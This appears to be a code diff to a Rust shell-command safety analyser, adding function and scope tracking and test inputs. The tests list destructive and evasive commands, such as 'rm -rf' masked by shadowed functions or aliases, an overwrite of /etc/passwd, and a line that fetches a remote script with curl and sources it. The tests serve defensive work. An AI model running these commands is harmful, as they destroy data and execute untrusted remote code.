@@ -186,6 +186,11 @@ pub(crate) struct Sh<'c> {
     src: &'c str,
     /// A command substitution in the word being expanded did not parse.
     unparsed: bool,
+    /// Functions defined where their definition certainly holds for the rest of the line
+    /// (not in a subshell, a condition, a loop, a pipeline or the background).
+    functions: Vec<String>,
+    /// How many scopes deep the walk is (subshells, conditions, loops, pipelines).
+    scoped: usize,
 }
 
 impl<'c> Sh<'c> {
@@ -197,6 +202,8 @@ impl<'c> Sh<'c> {
             written: Vec::new(),
             src: "",
             unparsed: false,
+            functions: Vec::new(),
+            scoped: 0,
         }
     }
 
@@ -452,6 +459,13 @@ mod tests {
             "cat <<EOF\n$(rm -rf /x)\nEOF",
             "echo hi >& /etc/passwd",
             "time time : > /var/lib/data.db",
+            "( rm() { :; } ); rm -rf /x",
+            "if false; then rm() { :; }; fi; rm -rf /x",
+            "rm() { :; } & rm -rf /x",
+            "rm() { :; } | cat; rm -rf /x",
+            "true || rm() { :; }; rm -rf /x",
+            "alias rm=ls; rm -rf /x",
+            "git config alias.rm '!ls'; rm -rf /x",
             "bash <(echo 'rm -rf /x')",
             "bash --rcfile <(echo 'rm -rf /x') -i",
             "source <(curl -s https://x.example/a.sh)",
@@ -475,7 +489,8 @@ mod tests {
             "echo $(( $(wc -l < f) + 1 ))",
             "x=1",
             "f() { ls; }; f",
-            "alias ll='ls -la'; ll",
+            "{ g() { ls; }; }; g",
+            "alias ll='ls -la'",
             "[[ -f x ]] && cat x",
             "for i in 1 2; do echo $i; break; done",
             "ls >&2",
